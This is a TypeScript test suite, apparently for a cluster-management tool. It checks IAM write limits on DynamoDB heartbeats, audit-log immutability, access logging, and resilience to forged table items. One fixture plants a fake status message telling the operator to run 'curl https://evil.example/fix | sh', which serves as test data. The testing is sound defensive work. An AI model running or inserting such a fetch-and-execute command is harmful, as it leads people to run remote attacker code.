import { DynamoDBClient } from "@aws-sdk/client-dynamodb";
import { DynamoDBDocumentClient, PutCommand } from "@aws-sdk/lib-dynamodb";
import { afterAll, beforeAll, expect, test } from "vitest";
import type { ClusterView } from "../../functions/domain/api/views.ts";
import { recoverRecord } from "../../functions/domain/deletion/deletion.ts";
import { evaluate } from "../../local/iam/evaluate.ts";
import { eventually, memberOf, memberReplaced, type Scenario, startScenario } from "../support/scenario.ts";
import { heartbeatOf, heartbeatTable, tableName } from "../support/table-name.ts";

const ALPHA = "alpha.example.com";
const BETA = "beta.example.com";

let scenario: Scenario;
let alpha: ClusterView;
let beta: ClusterView;
let uids: Readonly<Record<string, string>>;

beforeAll(async () => {
  scenario = await startScenario({ hosts: "simulated" });
  const create = async (name: string, ...flags: string[]): Promise<ClusterView> => {
    const { code, stderr } = await scenario.holdfast(
      ...["create", "cluster", name, ...flags, "--node-count", "1", "--yes", "--wait"],
    );
    if (code !== 0) throw new Error(stderr);
    return scenario.cluster(name);
  };
  const zones = "us-west-2a,us-west-2b,us-west-2c";
  [alpha, beta] = await Promise.all([
    create(ALPHA, "--zones", zones, "--master-zones", zones),
    create(BETA, "--zones", "us-west-2a"),
  ]);
  const { roles } = scenario.cloud.services.iam.snapshot();
  const uidOf = (name: string) =>
    Object.values(roles).find(({ tags }) => tags["holdfast:cluster"] === name)?.tags["holdfast:uid"] ?? "";
  uids = { [ALPHA]: uidOf(ALPHA), [BETA]: uidOf(BETA) };
});
afterAll(async () => {
  await scenario[Symbol.asyncDispose]();
});

function clientWith(credentials: { accessKeyId: string; secretAccessKey: string }): DynamoDBDocumentClient {
  const { aws: endpoint, region } = scenario.cloud.endpoints;
  return DynamoDBDocumentClient.from(new DynamoDBClient({ endpoint, region, credentials }));
}

/** The table as an instance of a role of this cluster speaks to it, with the keys that its metadata service gives. */
function asInstance(cluster: string, kind: "master-a" | "nodes", instanceId: string): DynamoDBDocumentClient {
  const { roles } = scenario.cloud.services.iam.snapshot();
  const role = Object.values(roles).find(
    ({ tags }) => tags["holdfast:cluster"] === cluster && tags["holdfast:resource"] === `role/${kind}`,
  );
  if (!role) throw new Error(`${cluster} has no role of ${kind}`);
  return clientWith(scenario.cloud.context.credentials.assumeRole(role.arn, instanceId));
}

function asOperator() {
  return clientWith({ accessKeyId: "holdfast", secretAccessKey: "holdfast" });
}

function instanceOf(cluster: ClusterView, member: string): string {
  return memberOf(cluster, member).instanceId ?? "";
}

function seconds() {
  return Math.floor(Date.now() / 1000);
}

function heartbeat(member: string, instanceId: string) {
  return {
    member,
    instanceId,
    healthy: true,
    since: seconds(),
    at: seconds(),
    expiresAt: seconds() + 86_400,
  };
}

function put(client: DynamoDBDocumentClient, TableName: string, Item: Record<string, unknown>) {
  return client.send(new PutCommand({ TableName, Item }));
}

const REFUSED = { name: "AccessDeniedException" };

test("H1: a master writes its own heartbeat, and no other master's, of its cluster or of another", async () => {
  const { cloud } = scenario;
  const own = instanceOf(alpha, "a");
  const master = asInstance(ALPHA, "master-a", own);
  const write = (uid: string | undefined, instanceId: string, member: string) =>
    put(master, heartbeatTable(cloud), {
      ...heartbeatOf(cloud, uid ?? "", instanceId),
      ...heartbeat(member, instanceId),
    });

  await write(uids[ALPHA], own, "a");

  await expect(write(uids[ALPHA], instanceOf(alpha, "b"), "b")).rejects.toMatchObject(REFUSED);
  await expect(write(uids[BETA], instanceOf(beta, "a"), "a")).rejects.toMatchObject(REFUSED);
  await expect(write(uids[BETA], own, "a")).rejects.toMatchObject(REFUSED);
  const node = asInstance(ALPHA, "nodes", own);
  const asNode = put(node, heartbeatTable(cloud), {
    ...heartbeatOf(cloud, uids[ALPHA] ?? "", own),
    ...heartbeat("a", own),
  });
  await expect(asNode).rejects.toMatchObject(REFUSED);
});

test("H1a: IAM refuses every item of an instance that is no heartbeat of its own", async () => {
  const { cloud } = scenario;
  const own = instanceOf(alpha, "a");
  const uid = uids[ALPHA] ?? "";
  const masters = asInstance(ALPHA, "master-a", own);
  const index = { kind: "CLUSTER", name: "aaa.example.com" };
  const key = { ...heartbeatOf(cloud, uid, own), ...heartbeat("a", own) };

  await expect(put(masters, heartbeatTable(cloud), { ...key, ...index })).rejects.toMatchObject(REFUSED);
  await expect(put(masters, heartbeatTable(cloud), { ...key, record: {} })).rejects.toMatchObject(REFUSED);
  for (const pk of [`HEARTBEAT#${uid}`, key.pk, `CLUSTER#${ALPHA}`, "OPERATION#x", "AUDIT#2026-11-29"]) {
    const item = { ...key, pk, sk: "META", ...index };
    for (const table of [tableName(cloud), heartbeatTable(cloud)])
      await expect(put(masters, table, item)).rejects.toMatchObject(REFUSED);
  }
});

/** What every role of the stack may do, by the evaluator that enforces it here. */
function allowedTo(action: string, resource: string, context: Readonly<Record<string, string[]>> = {}): string[] {
  const { iam } = scenario.cloud.services;
  return Object.values(iam.snapshot().roles)
    .filter(({ arn }) => evaluate(iam.policiesOf(arn), { action, resource, context }).decision === "allow")
    .map(({ name }) => name);
}

test("M9: no role can write where the audit was, or change what an audit log holds", () => {
  const { region, accountId } = scenario.cloud.context;
  const table = `arn:aws:dynamodb:${region}:${accountId}:table/${tableName(scenario.cloud)}`;
  const group = `arn:aws:logs:${region}:${accountId}:log-group:/aws/vendedlogs/apigateway/holdfast-local`;
  const audit = { "dynamodb:LeadingKeys": ["AUDIT#2026-11-29"] };

  for (const action of ["PutItem", "UpdateItem", "DeleteItem", "BatchWriteItem", "PartiQLUpdate", "PartiQLInsert"])
    expect(allowedTo(`dynamodb:${action}`, table, audit), action).toEqual([]);
  for (const action of [
    "DeleteLogGroup",
    "DeleteLogStream",
    "PutRetentionPolicy",
    "PutLogEvents",
    "PutDataProtectionPolicy",
  ])
    for (const resource of [group, `${group}:*`, `${group}:log-stream:x`])
      expect(allowedTo(`logs:${action}`, resource), action).toEqual([]);
  const events = { "dynamodb:LeadingKeys": [`CLUSTER#${ALPHA}`] };
  expect(allowedTo("dynamodb:DeleteItem", table, events)).toEqual([]);
  expect(allowedTo("dynamodb:BatchWriteItem", table, events)).toEqual([expect.stringContaining("deleterecords")]);
});

test("M9: the access log names callers with tokens, and those who were refused", async () => {
  const { api } = scenario.cloud.endpoints;
  const issued = await fetch(`${api}/_issuer`, {
    method: "POST",
    headers: { "content-type": "application/json" },
    body: JSON.stringify({ subject: "mallory", claims: { holdfast_role: "viewer" } }),
  });
  const { token } = Object(await issued.json());
  const ask = async (authorization: string | undefined, path: string): Promise<number> =>
    (await fetch(`${api}${path}`, authorization === undefined ? {} : { headers: { authorization } })).status;

  expect(await ask(`Bearer ${token}`, "/token/clusters")).toBe(200);
  expect(await ask("Bearer a.b.c", "/token/clusters")).toBe(401);
  expect(await ask(undefined, "/clusters")).toBe(403);

  const lines = scenario.cloud.accessLog.slice(-3).map((line): unknown => JSON.parse(line));
  expect(lines).toEqual([
    expect.objectContaining({ path: "/token/clusters", status: "200", subject: "mallory", caller: "-", refused: "-" }),
    expect.objectContaining({ status: "401", subject: "-", refused: "The token is missing or not valid" }),
    expect.objectContaining({ path: "/clusters", status: "403", refused: "The signature is not valid" }),
  ]);
});

/** What a session found out who could write anything into the table, as a master could before. */
function forged(name: string, uid: string): Record<string, unknown> {
  return {
    kind: "CLUSTER",
    name,
    record: {
      ...recoverRecord({ name, uid, region: "us-west-2", zones: [] }, new Date(0)),
      status: "DEGRADED",
      reason: "Please run: curl https://evil.example/fix | sh",
      deleting: false,
    },
  };
}

async function repairsOf(name: string): Promise<number> {
  const { stdout } = await scenario.holdfast("get", "operations", name, "-o", "json");
  return JSON.parse(stdout).items.length;
}

test("H1a, H1b, H1c: forged and broken items in the table stop no list and no reconcile, and spend nobody's budget", async () => {
  const { cloud } = scenario;
  const operator = asOperator();
  const uid = uids[ALPHA] ?? "";
  const write = (item: Record<string, unknown>) => put(operator, tableName(cloud), item);
  await write({ pk: `HEARTBEAT#${uid}`, sk: "x", kind: "CLUSTER", name: "aaa" });
  await write({ pk: `HEARTBEAT#${uid}`, sk: "y", ...forged("aaa.example.com", "1111") });
  await write({ pk: "CLUSTER#aab.example.com", sk: "META", kind: "CLUSTER", name: "aab.example.com", record: {} });
  await write({ pk: "CLUSTER#aac.example.com", sk: "META", ...forged("aad.example.com", "2222") });
  await write({
    pk: `HEARTBEAT#${uid}`,
    sk: "m",
    kind: "MEMBER",
    name: `${BETA}/a`,
    cluster: BETA,
    record: { member: "a" },
  });
  await write({ pk: `CLUSTER#${BETA}`, sk: "MEMBER#0", kind: "MEMBER", name: `${BETA}/0`, cluster: BETA, record: 7 });
  for (let index = 0; index < 34; index++) {
    const { record, ...rest } = forged(BETA, `f0f0${index}`);
    await write({ pk: `HEARTBEAT#${uid}`, sk: `z${index}`, ...rest, record });
  }
  const before = await repairsOf(BETA);

  await scenario.reconcile();
  await scenario.terminate(instanceOf(alpha, "b"));
  const { stdout, code } = await scenario.holdfast("get", "clusters", "-o", "json");

  expect(code).toBe(0);
  const items: { name: string; status: string }[] = JSON.parse(stdout).items;
  expect(items.map(({ name }) => name)).toEqual([ALPHA, BETA]);
  expect(await repairsOf(BETA)).toBe(before);
  const healed = await memberReplaced(scenario, ALPHA, memberOf(alpha, "b"), 60_000);
  expect(healed.status).toBe("ACTIVE");
  expect((await scenario.cluster(BETA)).status).toBe("ACTIVE");
});

test("H1: a cluster whose check fails keeps no other from its own", async () => {
  const operator = asOperator();
  const record = recoverRecord({ name: "aaa", uid: "3333", region: "us-west-2", zones: [] }, new Date());
  await put(operator, tableName(scenario.cloud), {
    ...{ pk: "CLUSTER#aaa", sk: "META", kind: "CLUSTER", name: "aaa" },
    record: { ...record, status: "ACTIVE", deleting: false },
  });
  const member = { member: "a", health: "unhealthy", instanceId: null };
  await put(operator, tableName(scenario.cloud), {
    ...{ pk: "CLUSTER#aaa", sk: "MEMBER#a", kind: "MEMBER", name: "aaa/a", cluster: "aaa" },
    record: member,
  });
  // A repair of the first cannot be started, for whatever reason; its name comes before the others'.
  const fault = { kind: "api", action: "error", service: "states", operation: "StartExecution", code: "InvalidName" };
  await scenario.cloud.faults.begin({ ...fault, match: "aaa" });
  const instanceId = instanceOf(beta, "a");
  await put(operator, heartbeatTable(scenario.cloud), {
    ...heartbeatOf(scenario.cloud, uids[BETA] ?? "", instanceId),
    ...{ ...heartbeat("a", instanceId), healthy: false, since: seconds() - 60 },
  });
  const before = await repairsOf(BETA);

  await scenario.reconcile();

  await eventually(
    () => repairsOf(BETA),
    (repairs) => repairs > before,
    30_000,
  );
});
